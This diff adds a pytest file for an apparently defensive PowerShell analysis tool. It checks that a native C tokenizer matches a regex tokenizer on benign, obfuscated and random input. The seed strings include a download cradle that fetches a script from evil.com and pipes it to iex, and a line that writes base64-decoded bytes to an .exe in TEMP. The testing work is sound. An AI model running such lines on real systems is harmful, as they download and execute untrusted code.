@@ -1,0 +1,74 @@
+"""The C tokenizer (_native.ps_tokens) against the regex one it replaces: the same tokens on
+real scripts, obfuscated ones, random garbage and every character class edge."""
+
+import importlib
+import random
+from pathlib import Path
+
+import pytest
+
+from threatscope.native import native
+from threatscope.powershell.obfuscate import FAMILIES, obfuscate
+
+tk = importlib.import_module("threatscope.powershell.tokenize")  # the package exports a function
+C = native()
+pytestmark = pytest.mark.skipif(C is None, reason="C extension not built")
+BENIGN = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "powershell" / "benign"
+
+
+def same(text: str) -> None:
+    ref = tk._tokens_fast(text, None)
+    got = C.ps_tokens(text, tk.Token, tk._NATIVE_KINDS, False, None, None)
+    assert got == ref, text[:200]
+    assert C.ps_tokens(text, tk.Token, tk._NATIVE_KINDS, True, None, None) == [
+        t for t in ref if t.kind != "comment"]
+
+
+@pytest.mark.skipif(not BENIGN.exists(), reason="no /work/shared/data/powershell")
+def test_benign_scripts():
+    for path in sorted(BENIGN.glob("*.ps1")):
+        same(path.read_text(encoding="utf-8", errors="replace"))
+
+
+def test_obfuscated_scripts():
+    rng = random.Random(5)
+    seeds = ["Write-Host 'hi'; $x = 1..10 | % { $_ * 2 }",
+             "(New-Object Net.WebClient).DownloadString('http://evil.com/a.ps1') | iex",
+             "$s = [Convert]::FromBase64String($b); [IO.File]::WriteAllBytes(\"$env:TEMP\\a.exe\", $s)",
+             "function Get-Thing { param([string]$Name, [int[]]$N = @(1, 2)) \"x $Name\" }"]
+    for _ in range(150):
+        fams = rng.sample(FAMILIES, rng.randint(1, 3))
+        text, _ = obfuscate(rng.choice(seeds), rng, families=fams, layers=rng.randint(1, 3))
+        same(text)
+
+
+ATOMS = list(" \t\f\v\xa0\ufeff\r\n`'\"\u2018\u2019\u201a\u201b\u201c\u201d\u201e$@#<>=+*/%!(){}[]"
+             ";,|&:.?^_~-\u2013\u2014\u2015\\0123456789aAbBcdDeEfFgklLmMnprsStTxXz\u0130\u0131"
+             "\u017f\u212a\u0663\x1c\x85\u2028\u3000\xe9") + [
+    "0x", "1.5", "e+", "kb", "-f", "-join", "-bxor", "-isnot", "-cnotcontains", "[char]",
+    "[a[b]]", "[ a ]", "$env:", "${", "@'\n", "'@", '@"\n', '"@', "<#", "#>", "`\n", "`\r\n",
+    "2>&1", "::", "..", "$_", "$$", "$^", "-Command", "[int[]]", "[a.b[c,d]]  ]"]
+
+
+def test_random_garbage():
+    rng = random.Random(11)
+    for _ in range(20_000):
+        same("".join(rng.choice(ATOMS) for _ in range(rng.randint(0, 14))))
+
+
+def test_every_character():
+    # each code point where a rule looks at it (word, operator, variable, number, type), a few
+    # hundred per text; every one up to U+3000, a sample of the rest
+    cps = [cp for cp in [*range(0x3000), *range(0x3000, 0x110000, 31), 0x212A, 0xFEFF]
+           if not 0xD800 <= cp < 0xE000]
+    for k in range(0, len(cps), 256):
+        same("\n".join(f"{ch} a{ch}b -{ch} -i{ch} ${ch} 1{ch} [{ch}] {ch}"
+                        for ch in map(chr, cps[k:k + 256])))
+
+
+def test_tokenize_uses_either_path(monkeypatch):
+    src = "iex (\"a\"+'b') # c\n[char]0x41 -f $x"
+    fast = tk.tokenize(src)
+    monkeypatch.setenv("THREATSCOPE_NATIVE", "0")
+    assert tk.tokenize(src) == fast
+    assert tk.code_tokens(src) == [t for t in fast if t.kind != "comment"]
